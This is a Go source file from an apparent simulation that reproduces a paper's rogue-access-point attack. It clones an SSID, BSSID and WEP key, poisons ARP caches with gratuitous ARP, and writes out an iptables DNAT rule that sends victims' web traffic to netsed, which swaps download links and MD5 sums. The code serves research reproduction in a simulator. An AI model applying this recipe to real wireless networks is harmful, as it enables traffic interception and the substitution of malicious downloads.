// Package attack assembles the paper's proof-of-concept attacker from the
// substrate packages, mirroring Section 4's recipe piece by piece:
//
//   - RogueKit: the two-card laptop of Figure 1. One WiFi interface
//     associates to the real network as an ordinary client ("eth1", the
//     paper's Netgear MA101); the second runs in Master mode as an access
//     point with the same SSID and WEP key ("wlan0", the D-Link DWL-650
//     under hostap). parprouted bridges them (Appendix A).
//   - StartMITM: Figure 2's payload, run on whichever gateway the victim's
//     traffic crosses: Netfilter DNATs the victim's port-80 traffic into a
//     local netsed, and netsed swaps the download link and MD5 sum.
//   - Deauther: the targeted forced-disassociation step ("he could force
//     the client's disassociation from the legitimate AP until the client
//     associates with the Rogue AP").
//   - WEPSniffer: the Airsnort stand-in that recovers the WEP key from
//     passively captured weak-IV traffic.
//   - MACHarvester: sniffs valid client MACs to defeat MAC filtering.
package attack

import (
	"repro/internal/arp"
	"repro/internal/dot11"
	"repro/internal/ethernet"
	"repro/internal/inet"
	"repro/internal/ipv4"
	"repro/internal/netfilter"
	"repro/internal/netsed"
	"repro/internal/phy"
	"repro/internal/sim"
	"repro/internal/tcp"
	"repro/internal/wep"
)

// rogueTxPowerDBm is the rogue AP card's transmit power: the same 15 dBm as
// every other radio, so the rogue wins on proximity, not volume.
const rogueTxPowerDBm = 15

// targetPort is the port of the website whose responses are rewritten (the
// paper's "Target-IP", port 80).
const targetPort inet.Port = 80

// RogueKitConfig configures the attacker's laptop.
type RogueKitConfig struct {
	// SSID to impersonate (the paper's "CORP").
	SSID string
	// CloneBSSID is the rogue AP's BSSID — Figure 1 clones the real AP's
	// (AA:BB:CC:DD...).
	CloneBSSID ethernet.MAC
	// Channel for the rogue AP (Figure 1: real AP on 1, rogue on 6).
	Channel phy.Channel
	// WEPKey: the network's key, known to the attacker ("created by a
	// valid user, using the authentication information he was given" or
	// "retrieved ... via Airsnort").
	WEPKey wep.Key
	// StationMAC is the client-side interface's MAC — possibly a harvested
	// valid MAC if the network filters.
	StationMAC ethernet.MAC
	// WlanIP / EthIP and Prefix follow Appendix A's addressing (two
	// interfaces in the flat LAN subnet).
	WlanIP, EthIP inet.Addr
	Prefix        inet.Prefix
	// DefaultGW is Appendix A's "route add default gw 10.0.0.1": the real
	// network's router, reached through the client-side interface.
	DefaultGW inet.Addr
}

// RogueKit is the running attacker.
type RogueKit struct {
	cfg RogueKitConfig

	STA        *dot11.STA
	AP         *dot11.AP
	IP         *ipv4.Stack
	TCP        *tcp.Stack
	Parprouted *arp.Parprouted

	// VictimsAssociated counts stations that joined the rogue AP.
	VictimsAssociated uint64
	// UplinkUp reports whether the client side associated to the real
	// network.
	UplinkUp bool
}

// NewRogueKit builds and starts the bridge. The two radios are placed at
// pos; the station side starts scanning immediately. The bridge relays
// without tampering until StartMITM runs on its stacks.
func NewRogueKit(k *sim.Kernel, medium *phy.Medium, pos phy.Position, cfg RogueKitConfig) *RogueKit {
	kit := &RogueKit{cfg: cfg}

	// Client-side card, associating to the real network like any station.
	staRadio := medium.AddRadio(phy.RadioConfig{Name: "rogue-eth1", Pos: pos, Channel: 1})
	kit.STA = dot11.NewSTA(k, staRadio, dot11.STAConfig{
		MAC:    cfg.StationMAC,
		SSID:   cfg.SSID,
		WEPKey: cfg.WEPKey,
		// Never join our own rogue AP (same SSID, cloned BSSID): exclude
		// its channel from candidate selection.
		ExcludeBSS: func(b dot11.BSS) bool { return b.Channel == cfg.Channel },
	})
	kit.STA.OnAssociate = func(b dot11.BSS) { kit.UplinkUp = true }

	// AP-side card in Master mode: same SSID, same (cloned) BSSID, same
	// WEP key, different channel.
	apRadio := medium.AddRadio(phy.RadioConfig{
		Name: "rogue-wlan0", Pos: pos, Channel: cfg.Channel, TxPowerDBm: rogueTxPowerDBm,
	})
	kit.AP = dot11.NewAP(k, apRadio, dot11.APConfig{
		SSID:    cfg.SSID,
		BSSID:   cfg.CloneBSSID,
		Channel: cfg.Channel,
		WEPKey:  cfg.WEPKey,
	})
	kit.AP.OnAssociate = func(sta ethernet.MAC) { kit.VictimsAssociated++ }

	// The gateway host (Appendix A): IP forwarding on, both interfaces
	// addressed, parprouted bridging them.
	kit.IP = ipv4.NewStack(k, "rogue-gw")
	kit.IP.Forwarding = true // echo 1 > /proc/sys/net/ipv4/ip_forward
	wlan0 := kit.IP.AddIface("wlan0", kit.AP.HostNIC(), cfg.WlanIP, cfg.Prefix)
	eth1 := kit.IP.AddIface("eth1", kit.STA.NIC(), cfg.EthIP, cfg.Prefix)
	kit.TCP = tcp.NewStack(kit.IP)
	if !cfg.DefaultGW.IsUnspecified() {
		kit.IP.AddDefaultRoute(cfg.DefaultGW, "eth1")
	}

	kit.Parprouted = arp.NewParprouted(k, kit.IP, map[string]*arp.Client{
		"wlan0": wlan0.ARP,
		"eth1":  eth1.ARP,
	})

	// Poison upstream: chain onto wlan0's observer (after parprouted's), and
	// when a victim address appears behind the rogue, claim it on the client
	// side with a gratuitous ARP, so the real network re-learns it at once
	// instead of waiting for cache expiry.
	prev := wlan0.ARP.Observer
	wlan0.ARP.Observer = func(p arp.Packet) {
		if prev != nil {
			prev(p)
		}
		if p.SenderIP.IsUnspecified() || p.SenderIP == cfg.WlanIP || p.SenderIP == cfg.EthIP {
			return
		}
		claim := arp.Packet{
			Op:       arp.OpRequest, // gratuitous ARP
			SenderHW: kit.STA.NIC().HWAddr(), SenderIP: p.SenderIP,
			TargetIP: p.SenderIP,
		}
		kit.STA.NIC().SendBuf(ethernet.BroadcastMAC, ethernet.TypeARP, k.BufPool().GetCopy(claim.Marshal()))
	}

	kit.STA.Connect()
	return kit
}

// StartMITM turns a gateway hostile (Figure 2). A Netfilter rule DNATs TCP
// to target's port 80 into a netsed listening on local, the gateway's
// address on the victim's side. netsed relays each connection on to target
// and applies rules, in its s/from/to syntax, to the responses, matching per
// segment as the paper's tool does. It schedules no event and draws no
// randomness.
func StartMITM(ip *ipv4.Stack, t *tcp.Stack, target, local inet.Addr, rules []string) (*netsed.Proxy, error) {
	// The paper's Netfilter redirect, verbatim.
	fw := netfilter.New()
	fw.RegisterInvariants(ip.Kernel())
	ip.AddHook(fw)
	cmd := "iptables -t nat -A PREROUTING -p tcp -d " + target.String() +
		" --dport " + targetPort.String() +
		" -j DNAT --to " + local.String() + ":10101"
	if _, err := fw.ParseIptables(cmd); err != nil {
		return nil, err
	}
	// And netsed listening where the DNAT points.
	return netsed.Start(t, netsed.Config{
		ListenPort: 10101,
		Upstream:   inet.HostPort{Addr: target, Port: targetPort},
		Rules:      rules,
	})
}

// Stop silences the kit (both radios).
func (r *RogueKit) Stop() {
	r.AP.Stop()
	r.STA.Stop()
}
